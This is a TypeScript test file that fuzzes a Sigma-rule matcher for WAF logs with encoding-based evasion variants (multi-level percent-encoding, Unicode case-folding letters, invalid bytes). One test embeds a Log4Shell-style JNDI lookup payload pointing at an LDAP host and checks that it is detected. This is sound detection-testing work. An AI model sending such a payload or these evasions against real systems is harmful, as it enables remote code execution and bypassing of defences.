import fc from 'fast-check'
import { expect, test } from 'vitest'
import { compile } from '../../../detections/sigma/compile.ts'
import { loadRules, shippedRules } from '../../../detections/sigma/load.ts'
import { Matcher } from '../../../detections/sigma/matcher.ts'
import type { Event } from '../../../engine/contract.ts'
import { parseWaf } from '../../../enrichers/parse-waf.ts'
import type { JsonObject, OcsfEvent } from '../../../platform/ocsf/event.ts'
import { eventOf, testDeps } from '../../support/deps.ts'
import { wafRecord } from '../../support/waf-records.ts'

const stage = await parseWaf.open(parseWaf.config.parse({}), testDeps())
const rules = (await loadRules([shippedRules])).rules.filter(({ log }) => log === 'waf')
const matcher = new Matcher(rules)
const literals = compile(rules).literals.map(({ text }) => text)

/** The event, or why it was refused. */
async function parsed(record: Buffer): Promise<Event | string> {
  let refused = 'nothing came'
  const [event] = await stage.apply([eventOf(record)], (_, reason) => {
    refused = reason
  })
  return event ?? refused
}

/** A character that is written in another way in a URL; of `%` what attackers do who know that it is decoded twice. */
function percent(char: string, times: number): string {
  let text = [...Buffer.from(char)].map(byte => `%${byte.toString(16).padStart(2, '0')}`).join('')
  for (let again = 1; again < times; again++) text = text.replaceAll('%', '%25')
  return text
}

const changes: readonly ((char: string) => string)[] = [
  char => char.toUpperCase(),
  char => percent(char, 1),
  char => percent(char, 2),
  char => percent(char, 3),
  char => (char === ' ' ? '+' : char),
  // Letters beyond ASCII that fold to k and s, and a byte that is none of UTF-8 when decoded.
  char => (char === 'k' ? '\u212a' : char === 's' ? 'ſ' : char),
  char => `${char}%ff`,
  char => char + char,
  () => '',
]
/** A text that some rule looks for, with some of its characters written otherwise, left out or doubled. */
const changed = fc
  .tuple(fc.constantFrom(...literals), fc.array(fc.tuple(fc.nat(), fc.constantFrom(...changes)), { maxLength: 3 }))
  .map(([text, edits]) => {
    const chars = text.split('')
    for (const [at, change] of edits) chars[at % chars.length] = change(chars[at % chars.length]!)
    return chars.join('')
  })
const around = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '"',
    '\\',
    '%',
    '%2',
    '\n',
    '가',
    '\ud800',
    'Mozilla/5.0 (X11; Linux x86_64)',
    '?',
    '&a=',
    '/',
  ),
  fc.string({ maxLength: 12 }),
  fc.string({ unit: 'binary', maxLength: 4 }),
)
const text = fc
  .array(fc.oneof({ weight: 3, arbitrary: changed }, { weight: 2, arbitrary: around }), { maxLength: 4 })
  .map(parts => parts.join(''))
const name = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('User-Agent', 'Cookie', 'Referer', 'Host', 'content-type', 'x-api') },
  { weight: 1, arbitrary: changed },
)
const request = fc.record({
  httpMethod: fc.oneof(fc.constantFrom('GET', 'POST', 'TRACE'), changed),
  uri: text,
  args: text,
  headers: fc.array(fc.record({ name, value: text }), { maxLength: 5 }),
})
const labels = fc.array(fc.record({ name: text }), { maxLength: 2 })

/** JSON in which some characters are written as escapes by number, or solidi with a backslash, as other writers may. */
function written(record: JsonObject, how: number): Buffer {
  const json = JSON.stringify(record)
  if (how === 0) return Buffer.from(json)
  if (how === 1) return Buffer.from(json.replaceAll('/', '\\/'))
  return Buffer.from(
    json.replace(/[.$<a-d](?=[^"\\]*"[,}\]])/g, char => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`),
  )
}

test('the fast path gives exactly the verdicts of the plain one, whatever hostile clients write', async () => {
  let matched = 0
  const property = fc.asyncProperty(request, labels, fc.nat({ max: 2 }), async (asked, given, how) => {
    const base = wafRecord()
    const record = { ...base, labels: given, httpRequest: { ...(base['httpRequest'] as JsonObject), ...asked } }
    const event = await parsed(written(record as JsonObject, how))
    if (typeof event === 'string') return
    const plain = JSON.parse(JSON.stringify(event.body)) as OcsfEvent
    const wanted = matcher.match(plain).map(({ title }) => title)
    expect(matcher.match(event.body).map(({ title }) => title)).toEqual(wanted)
    matched += wanted.length
  })
  await fc.assert(property, { numRuns: 400 })
  expect(matched).toBeGreaterThan(100)
})

test.each([32_000, 33_000, 200_000])('a cookie of %d characters hides nothing behind it', async length => {
  const base = wafRecord()
  const headers = [
    { name: 'Cookie', value: 'a'.repeat(length) },
    { name: 'x-api', value: `\${jndi:ldap://192.0.2.1/a}` },
  ]
  const event = await parsed(written({ ...base, httpRequest: { ...(base['httpRequest'] as JsonObject), headers } }, 0))
  if (typeof event === 'string') throw new Error(event)
  expect(matcher.match(event.body).map(({ title }) => title)).toContain('JNDI Lookup in a Request')
})

test('bytes that are no UTF-8 are refused before any rule sees them', async () => {
  const json = JSON.stringify(wafRecord()).replace('"uri":"', '"uri":"/\u00ff')
  expect(await parsed(Buffer.from(json, 'latin1'))).toMatch(/invalid_utf8/)
})
